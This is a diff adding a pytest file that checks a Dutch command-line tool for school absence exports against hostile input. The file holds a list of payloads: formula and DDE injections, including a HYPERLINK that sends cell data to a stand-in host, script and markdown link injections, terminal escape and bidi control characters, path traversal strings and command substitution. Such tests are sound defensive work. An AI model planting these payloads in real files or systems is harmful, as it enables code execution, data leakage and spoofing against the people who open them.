@@ -1,0 +1,267 @@
+"""What a file says never acts: not in a spreadsheet, a report, a terminal, a calendar or a path."""
+
+from __future__ import annotations
+
+import csv
+import re
+import unicodedata
+import zipfile
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+import xlsxwriter
+from markdown_it import MarkdownIt
+from python_calamine import CalamineWorkbook
+
+from thuiszit_cli.cli.app import run
+from thuiszit_cli.privacy import ENVIRONMENT
+
+DAY = ("--peildatum", "2026-10-01")
+PAYLOADS = (
+    '=HYPERLINK("http://kwaad.example/"&A2,"klik")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "＝1+1",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[klik](javascript:alert(1))",
+    "![x](http://kwaad.example/x.png)",
+    "http://kwaad.example/volg",
+    "| cel | nog een |",
+    "`code` **vet** # kop",
+    "&lt;script&gt;&#x3c;b&#x3e;",
+    "\x1b[2J\x1b]0;titel\x07\x1b[31mrood",
+    "\x9b31mrood",
+    "\u202efdp.exe\u202c",
+    "\u2066links\u2069\u200b\ufeff",
+    "a\u2028b\u2029c\x85d",
+    "BEGIN:VEVENT\\nSUMMARY:x;y,z",
+    "../../../../etc/kwaad",
+    "..\\..\\kwaad",
+    "CON",
+    "{jaar}%n%s{0}$(id)`id`",
+)
+assert len(PAYLOADS) == 25
+
+
+class Acting(HTMLParser):
+    """The elements of a page that do or fetch something."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        if tag in {"script", "img", "a", "iframe", "object", "svg", "b", "code", "style", "link"}:
+            self.found.append(f"{tag} {attributes}")
+
+
+def assert_safe(folder: Path, apart: Path | None = None) -> None:
+    """Reopen every file in a folder (but one) as the program that a reader would open it with."""
+    for path in folder.rglob("*"):
+        match path.suffix if path != apart else "":
+            case ".csv":
+                _safe_csv(path)
+            case ".xlsx":
+                _safe_workbook(path)
+            case ".md":
+                _safe_page(path)
+            case ".ics":
+                _safe_calendar(path)
+
+
+def _safe_csv(path: Path) -> None:
+    with path.open(encoding="utf-8-sig", newline="") as stream:
+        for row in csv.reader(stream, delimiter=";"):
+            for cell in row:
+                number = re.fullmatch(r"-?\d+(?:[.,]\d+)?|-", cell)
+                assert number or not cell.startswith(tuple("=+-@\t\r＝＋－＠")), (path.name, cell)
+                assert not steering(cell), (path.name, cell)
+
+
+def _safe_workbook(path: Path) -> None:
+    with zipfile.ZipFile(path) as book:
+        for name in book.namelist():
+            text = book.read(name).decode("utf-8", "replace")
+            assert "<f>" not in text, name
+            assert "<f " not in text, name
+            assert "<hyperlink" not in text, name
+            assert "externalLink" not in name, name
+    for name in CalamineWorkbook.from_path(str(path)).sheet_names:
+        CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python()
+
+
+def _safe_page(path: Path) -> None:
+    text = path.read_text(encoding="utf-8")
+    assert not [line for line in text.split("\n") if steering(line)]
+    page = Acting()
+    page.feed(MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table").render(text))
+    assert [each for each in page.found if not each.startswith("code")] == []
+
+
+def _safe_calendar(path: Path) -> None:
+    text = path.read_bytes().decode("utf-8")
+    lines = re.sub(r"\r\n ", "", text).split("\r\n")
+    assert text.count("\n") == text.count("\r\n")
+    begins = [line for line in lines if line.startswith("BEGIN:")]
+    assert set(begins) == {"BEGIN:VCALENDAR", "BEGIN:VEVENT"} or begins == ["BEGIN:VCALENDAR"]
+    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT")
+    assert not [line for line in lines if steering(line)]
+
+
+def steering(text: str) -> list[str]:
+    """The signs in a text that steer a terminal or turn the reading direction."""
+    return [sign for sign in text if unicodedata.category(sign) in {"Cc", "Cf", "Cs", "Zl", "Zp"}]
+
+
+ROWS = (
+    (
+        "meldingsnummer",
+        "persoonsgebonden_nummer",
+        "geboortedatum",
+        "geslacht",
+        "postcode",
+        "gemeentecode",
+        "brin",
+        "vestiging",
+        "onderwijssoort",
+        "verzuimsoort",
+        "begindatum",
+        "status",
+        "verzuimuren",
+        "inschrijving_begin",
+        "vermoedelijke_reden",
+        "{header}",
+    ),
+    (
+        "{cell}",
+        "999990019",
+        "01-05-2014",
+        "{cell}",
+        "{cell}",
+        "{cell}",
+        "{cell}",
+        "{cell}",
+        "{cell}",
+        "LRV",
+        "17-08-2026",
+        "R",
+        "{cell}",
+        "01-08-2020",
+        "{cell}",
+        "{cell}",
+    ),
+    (
+        "{cell}2",
+        "{cell}",
+        "01-05-2014",
+        "V",
+        "1234AB",
+        "0363",
+        "{cell}",
+        "00",
+        "vo",
+        "{cell}",
+        "17-08-2026",
+        "{cell}",
+        "-4",
+        "01-08-2020",
+        "",
+        "",
+    ),
+)
+
+
+def write_export(path: Path, cell: str = "x", header: str = "Opmerking", sheet: str = "Blad1") -> Path:
+    """An export with a payload in every cell where a text can stand, or as a header or name of a sheet."""
+    rows = [[text.replace("{cell}", cell).replace("{header}", header) for text in row] for row in ROWS]
+    if path.suffix == ".xlsx":
+        with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False}) as book:
+            page = book.add_worksheet(sheet)
+            for number, row in enumerate(rows):
+                for column, text in enumerate(row):
+                    page.write_string(number, column, text)
+    else:
+        with path.open("w", encoding="utf-8", newline="") as stream:
+            csv.writer(stream, delimiter=";").writerows(rows)
+    return path
+
+
+def _sheet_name(payload: str) -> str:
+    return re.sub(r"[\[\]:*?/\\'\x00-\x1f]", "\u2215", payload)[:31]
+
+
+def _file_name(payload: str) -> str:
+    return payload.replace("/", "\u2215").replace("\0", "")[:60]
+
+
+@pytest.mark.parametrize("place", ["cell", "header", "sheet", "name"])
+@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"payload {number}" for number in range(len(PAYLOADS))])
+def test_a_hostile_text_does_nothing_wherever_it_stands(
+    payload: str,
+    place: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    work = tmp_path / "diep" / "map"
+    work.mkdir(parents=True)
+    monkeypatch.chdir(work)
+    monkeypatch.setenv(ENVIRONMENT, "ab" * 32)
+    form = "xlsx" if place == "sheet" else "csv"
+    name = f"{_file_name(payload)}.csv" if place == "name" else f"export.{form}"
+    export = write_export(
+        work / name,
+        cell=payload if place == "cell" else "x",
+        header=payload if place == "header" else "Opmerking",
+        sheet=_sheet_name(payload) if place == "sheet" else "Blad1",
+    )
+    settings = '[run]\nexports = "map"\npatronen = ["*.*"]\nuitvoer = "map/../uitkomsten"\n'
+    (tmp_path / "diep" / "thuiszit.toml").write_text(settings, encoding="utf-8")
+    before = {path for path in tmp_path.rglob("*") if path != export}
+    for command in _commands(f"./{export.name}"):
+        code = run(command)
+        shown = capsys.readouterr()
+        assert code in (0, 3), (command, shown.err)
+        assert not [line for line in (shown.out + shown.err).split("\n") if steering(line)], command
+    assert_safe(work, apart=export)
+    assert_safe(tmp_path / "diep" / "uitkomsten")
+    made = set(tmp_path.rglob("*")) - before
+    allowed = (work, tmp_path / "diep" / "uitkomsten")
+    assert not [path for path in made if not any(path.is_relative_to(root) for root in allowed)]
+
+
+def _commands(export: str) -> Iterator[list[str]]:
+    yield ["run", *DAY, "--config", "../thuiszit.toml"]
+    yield ["classify", export, *DAY, "--uit", "klassen"]
+    yield ["pseudonymise", export, "--uit", "pseudoniem"]
+    yield ["check", export, *DAY, "--uit", "bevindingen"]
+    yield ["inspect", export]
+    yield ["explain", export, *DAY, "--leerling", "999990019"]
+    yield ["verify", "klassen"]
+
+
+def test_a_negative_number_stays_a_number_in_a_csv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv(ENVIRONMENT, "ab" * 32)
+    write_export(tmp_path / "export.csv")
+    assert run(["pseudonymise", "export.csv", "--uit", "uit", "--stil"]) == 0
+    with (tmp_path / "uit" / "export.csv").open(encoding="utf-8-sig", newline="") as stream:
+        rows = list(csv.DictReader(stream, delimiter=";"))
+    assert rows[1]["verzuimuren"] == "-4"
+
+
+def test_a_gigantic_cell_is_read_or_refused_and_never_shown(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    write_export(tmp_path / "export.csv", cell="Zonnebloemstra" * 500_000)
+    assert run(["classify", "export.csv", *DAY, "--uit", "uit"]) in (0, 3)
+    shown = capsys.readouterr()
+    assert len(shown.out + shown.err) < 20_000
+    assert "Zonnebloemstra" not in shown.out + shown.err
